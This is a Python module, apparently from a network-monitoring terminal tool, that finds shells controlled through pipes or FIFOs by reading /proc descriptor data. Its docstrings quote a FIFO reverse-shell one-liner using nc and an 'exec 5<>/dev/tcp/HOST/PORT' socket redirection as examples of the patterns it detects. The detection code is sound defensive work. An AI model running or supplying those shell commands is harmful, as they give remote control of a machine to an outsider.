"""The shells that do what a process tells them by pipes and FIFOs (fifo(7)) though they are no children of its.

``mkfifo f; cat f | sh -i 2>&1 | nc HOST PORT > f`` makes all three children of the shell where it was typed.
"""

from __future__ import annotations

import os
import stat
from collections.abc import Iterable, Iterator, Sequence
from itertools import islice
from typing import TYPE_CHECKING, NamedTuple

from tcpview_tui.findings.evidence import Joined
from tcpview_tui.sources.evidence.asking import ask, content, link, refused
from tcpview_tui.sources.evidence.children import children, shell
from tcpview_tui.sources.evidence.streams import stream
from tcpview_tui.sources.proctable import read_entry
from tcpview_tui.text import safe

if TYPE_CHECKING:
    from tcpview_tui.findings.evidence import Reading

Pipe = str | tuple[int, int]
"""What is the same at both ends: the link of a pipe in /proc/PID/fd, device and inode of a FIFO."""

_STANDARD, _FIRST = range(3), range(10)
"""Descriptors: the standard streams, and those that a program opens first."""

_LOOKED_AT = 32
"""Processes near one with a pipe that are looked at, nearest pids first: a job starts at one go. Some 30 us each."""

_WRAPPERS = 3
"""How often it is gone up past a parent with the same streams: sudo(8) and timeout(1) leave theirs to their child."""

_NO_POSITION = b"pos:\t0\n"
"""How /proc/PID/fdinfo/N begins for what was not read or written yet, or never has a position (proc_pid_fdinfo(5))."""

_ELSE = ("socket:[", "anon_inode:", "/dev/", "/memfd:")
"""How the links of descriptors begin that are no pipe."""


class _Ends(NamedTuple):
    """The pipes that a process reads from and writes to, each with what people call it."""

    takes: dict[Pipe, str]
    gives: dict[Pipe, str]

    def shares(self, other: _Ends) -> bool:
        """Whether both have the same end of a pipe: one has left it to the other."""
        return bool(self.takes.keys() & other.takes.keys() or self.gives.keys() & other.gives.keys())


_NONE = _Ends({}, {})


def joined(process: str, parent: int) -> Reading[tuple[Joined, ...]]:
    """Return the shells that read what the process with this directory in /proc, a child of `parent`, writes.

    They are looked for among the other children of its parent, and theirs; between them there may be programs that pass
    on what they read, as cat(1) does. It takes some 30 us for a process that writes to no pipe, up to 3 ms for others.
    """

    def look() -> Reading[tuple[Joined, ...]]:
        try:
            return tuple(_joined(process, parent))
        except PermissionError as error:
            return refused(str(error.filename))

    return ask(look, f"{process}/fd")


def _joined(process: str, parent: int) -> Iterator[Joined]:
    own = _ends(process, _FIRST)
    if not own.gives:
        return
    line = _line(parent, own)
    near = _near(line, int(process.rpartition("/")[2]), own)
    heard = _reached(own.gives, near.values())
    away = {pipe for pid, ends in near.items() if _wires(f"/proc/{pid}") for pipe in ends.takes}
    answered = _reached(own.takes.keys() | away, [_Ends(ends.gives, ends.takes) for ends in near.values()])
    for pid in (line[-1], *near):
        standard = _standard(pid)
        hears = next((name for pipe, name in standard.takes.items() if pipe in heard), "")
        answers = next((name for pipe, name in standard.gives.items() if pipe in answered), "")
        if hears and (found := shell(pid, is_joined=True)):
            answers = answers or ("its connection" if _wires(process) & _wires(f"/proc/{pid}") else "")
            yield Joined(found, hears, answers, _is_fork(pid))


def _line(parent: int, own: _Ends) -> list[int]:
    """Return the parents up to that which has started the whole job: the first that did not leave its streams to it."""
    line = [parent]
    for _ in range(_WRAPPERS):
        above = read_entry(line[-1])
        if above is None or not above.parent or not _standard(line[-1]).shares(own):
            break
        line.append(above.parent)
    return line


def _near(line: Sequence[int], pid: int, own: _Ends) -> dict[int, _Ends]:
    """Return the ends of those that have a pipe as a standard stream: children of `top`, and theirs; not of `pid`."""
    found: dict[int, _Ends] = {}
    waiting = sorted(children(f"/proc/{line[-1]}"), key=lambda each: abs(each - pid))
    for each in islice(waiting, _LOOKED_AT):  # which grows meanwhile
        if each == pid or each in found:
            continue
        ends = _standard(each, must_tell=True)
        if each in line or ends.takes.keys() - own.takes.keys() or ends.gives.keys() - own.gives.keys():
            found[each] = _ends(f"/proc/{each}", _FIRST)
            waiting += children(f"/proc/{each}")
    return found


def _reached(pipes: Iterable[Pipe], passing: Iterable[_Ends]) -> set[Pipe]:
    """Return the pipes where what is written to `pipes` comes by, if those who read there are `passing` it on."""
    reached, waiting = set(pipes), list(passing)
    while onward := [ends for ends in waiting if not reached.isdisjoint(ends.takes)]:
        waiting = [ends for ends in waiting if ends not in onward]
        reached.update(*(ends.gives for ends in onward))
    return reached


def _standard(pid: int, *, must_tell: bool = False) -> _Ends:
    """Return the ends that are standard streams; raise PermissionError where a shell does not tell that has to."""
    try:
        return _ends(f"/proc/{pid}", _STANDARD)
    except PermissionError:
        if must_tell and shell(pid):
            raise
        return _NONE


def _ends(process: str, numbers: Iterable[int]) -> _Ends:
    """Return the ends among these descriptors. Raises PermissionError."""
    found, spare = _Ends({}, {}), _Ends({}, {})
    for number in numbers:
        path = f"{process}/fd/{number}"
        try:
            name = link(path)
            pipe = None if name.startswith(_ELSE) else _pipe(path, name)
            if pipe is None:
                continue
            mode = os.lstat(path).st_mode
        except (FileNotFoundError, ProcessLookupError):
            continue
        called = "a pipe" if name.startswith("pipe:[") else f"the FIFO {safe(name)}"
        # The bits of the link tell how the descriptor was opened (proc_pid_fd(5)).
        of = found if number in _STANDARD else spare
        if mode & stat.S_IRUSR and number not in (1, 2):
            of.takes[pipe] = called
        if mode & stat.S_IWUSR and number != 0:
            of.gives[pipe] = called
    # Who was left both ends takes turns by it: a job server of make(1), a FIFO that counts what runs at once.
    both = spare.takes.keys() & spare.gives.keys()
    for there, more in zip(found, spare, strict=True):
        there.update((pipe, called) for pipe, called in more.items() if pipe not in both)
    return found


def _pipe(path: str, name: str) -> Pipe | None:
    """Return what identifies a pipe; `None` for anything else.

    A FIFO has no position: a file that has is not asked for more, which could wait for a server that is gone.
    """
    if name.startswith("pipe:["):
        return name
    try:
        if not content(path.replace("/fd/", "/fdinfo/")).startswith(_NO_POSITION):
            return None
        found = os.stat(path)  # noqa: PTH116 - called for each descriptor
    except OSError:  # a file system that refuses or is gone has no FIFO that anybody waits at
        return None
    return (found.st_dev, found.st_ino) if stat.S_ISFIFO(found.st_mode) else None


def _wires(process: str) -> set[str]:
    """Return the network sockets among the first descriptors: ``exec 5<>/dev/tcp/HOST/PORT`` leaves one to all."""
    try:
        found = [stream(f"{process}/fd/{number}") for number in _FIRST]
    except OSError:
        return set()
    return {each.link for each in found if each and each.is_network}


def _is_fork(pid: int) -> bool:
    """Whether it goes on with the program of its parent: a shell forks for a loop or a list in a pipeline."""
    own = read_entry(pid)
    above = read_entry(own.parent) if own else None
    return own is not None and above is not None and own.image == above.image
